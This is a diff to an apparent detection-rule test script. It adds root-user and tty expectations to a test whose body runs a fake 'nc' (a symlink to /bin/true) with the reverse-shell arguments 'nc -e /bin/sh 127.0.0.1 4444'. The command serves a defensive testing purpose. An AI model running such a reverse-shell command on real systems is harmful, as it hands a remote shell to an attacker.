@@ -8,6 +8,10 @@
 #@ expect: proc.name=nc
 #@ expect: proc.cmdline=nc -e /bin/sh 127.0.0.1 4444
 #@ expect: evt.type=execve
+#@ expect: user.name=root
+#@ expect: user.uid=0
+#@ expect: proc.tty=0
+#@ reference: nc_exec
 set -u
 ln -s /bin/true "$W/nc"
 "$W/nc" -e /bin/sh 127.0.0.1 4444
